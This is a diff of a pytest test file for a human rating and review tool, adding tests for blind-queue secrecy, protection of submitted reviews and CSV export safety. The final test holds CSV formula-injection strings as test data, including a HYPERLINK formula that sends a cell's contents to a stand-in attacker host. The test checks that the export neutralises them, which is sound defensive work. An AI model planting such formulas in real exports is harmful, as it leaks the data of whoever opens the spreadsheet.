@@ -244,8 +244,10 @@ def test_ratings_agreement_spearman_and_ordinal_alpha(settings: Settings, client
     assert positivity["krippendorff_alpha"] == pytest.approx(expected) and 0.8 < expected < 1
 
 
-def test_blind_queues_hide_run_weights_and_scores_until_submitted(settings: Settings, clients: dict) -> None:
-    queue, _ = comparison_queue(settings, clients, blind=True)
+def test_blind_queues_hide_the_condition_before_and_after_submitting(settings: Settings, clients: dict) -> None:
+    """Before, a reviewer's throwaway submission showed run, weights and scores, and a PUT then changed the ratings;
+    the queue list showed reviewers each blind queue's run."""
+    queue, ids = comparison_queue(settings, clients, blind=True)
     items = clients["rev1"].get(f"/api/review/queues/{queue['id']}/items").json()
     assert all(set(r) == {"text"} for item in items for r in item["responses"])
     swapped = [item for item in items if item["responses"][0]["text"].endswith(" B")]
@@ -253,15 +255,36 @@ def test_blind_queues_hide_run_weights_and_scores_until_submitted(settings: Sett
     # The reviewer picks what is shown first; the review is stored in the item's own A/B order.
     shown_first = items[0]
     response = put(clients["rev1"], shown_first["id"], {"positivity": "A", "brevity": "B"}, "A")
-    revealed = response.json()
-    assert "scores" in revealed["responses"][0] and "weights" in revealed["responses"][0]
-    assert revealed["review"]["overall"] == "A"  # shown back as chosen, in display order
+    submitted = response.json()
+    assert response.status_code == 200 and all(set(r) == {"text"} for r in submitted["responses"])
+    assert submitted["review"]["overall"] == "A"  # shown back as chosen, in display order
+    after = clients["rev1"].get(f"/api/review/queues/{queue['id']}/items").json()
+    assert all(set(r) == {"text"} for item in after for r in item["responses"])  # submitted or not
     first_is_b = shown_first["responses"][0]["text"].endswith(" B")
     with session_scope(settings.database_url) as session:
         stored = session.query(Review).filter(Review.item_id == shown_first["id"]).one()
         assert stored.overall == ("B" if first_is_b else "A")
-    others = clients["rev2"].get(f"/api/review/queues/{queue['id']}/items").json()
-    assert set(others[0]["responses"][0]) == {"text"}  # still hidden from a reviewer who has not submitted
+    # Reviewers do not see where a blind queue's items come from; the trainer who builds queues does.
+    for listed in (
+        clients["rev1"].get("/api/review/queues").json(),
+        [clients["rev1"].get(f"/api/review/queues/{queue['id']}").json()],
+    ):
+        mine = next(q for q in listed if q["id"] == queue["id"])
+        assert mine["source"] == {} and "generation_ids" not in json.dumps(mine)
+    trainer_view = clients["trainer"].get(f"/api/review/queues/{queue['id']}").json()
+    assert trainer_view["source"]["generation_ids"] == ids
+
+
+def test_a_draft_save_cannot_empty_a_submitted_review(settings: Settings, clients: dict) -> None:
+    queue, _ = comparison_queue(settings, clients, blind=False)
+    item = stored_order(clients["rev1"], queue["id"])[0]["id"]
+    assert put(clients["rev1"], item, {"positivity": "A", "brevity": "B"}, "A").status_code == 200
+    emptied = clients["rev1"].put(f"/api/review/items/{item}/review", json={"ratings": {}, "submit": False})
+    assert emptied.status_code == 409 and "submitted" in emptied.text  # before: 200, submitted with no ratings
+    lines = clients["trainer"].get(f"/api/review/queues/{queue['id']}/export?format=jsonl").text.splitlines()
+    assert [json.loads(line)["ratings"] for line in lines] == [{"positivity": "chosen", "brevity": "rejected"}]
+    # A complete submission still replaces it while the queue is open.
+    assert put(clients["rev1"], item, {"positivity": "B", "brevity": "B"}, "B").json()["review"]["overall"] == "B"
 
 
 def test_exports_line_by_line(settings: Settings, clients: dict) -> None:
@@ -327,3 +350,21 @@ def test_validation_of_review_values_is_per_kind() -> None:
         review.validate_review(queue, {"a": "A"}, None, False)
     comparison = review.ReviewQueue(kind="comparison", objectives=["a"], status="open")
     assert review.validate_review(comparison, {"a": "tie"}, "B", True) == ({"a": "tie"}, "B")
+
+
+def test_csv_export_neutralises_formulas(settings: Settings, clients: dict) -> None:
+    """Before, a comment =HYPERLINK("http://evil.example/?"&A2,"click") was exported as is: a spreadsheet runs it."""
+    queue, _ = comparison_queue(settings, clients, blind=False)
+    items = stored_order(clients["rev1"], queue["id"])
+    hostile = ['=HYPERLINK("http://evil.example/?"&A2,"click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+    for item, comment in zip(items, hostile[:4], strict=True):
+        body = {"ratings": {"positivity": "A", "brevity": "A"}, "overall": "A", "comment": comment, "submit": True}
+        assert clients["rev1"].put(f"/api/review/items/{item['id']}/review", json=body).status_code == 200
+    exported = clients["trainer"].get(f"/api/review/queues/{queue['id']}/export?format=csv")
+    comments = [row[-1] for row in list(csv.reader(io.StringIO(exported.text)))[1:]]
+    assert comments == [f"'{c}" for c in hostile[:4]]
+    assert [review.spreadsheet_safe(c) for c in hostile] == [f"'{c}" for c in hostile]
+    assert review.spreadsheet_safe("fine = good") == "fine = good" and review.spreadsheet_safe(-1) == -1
+    # The jsonl export is data, not a spreadsheet: as written.
+    lines = clients["trainer"].get(f"/api/review/queues/{queue['id']}/export").text.splitlines()
+    assert [json.loads(line)["comment"] for line in lines] == hostile[:4]
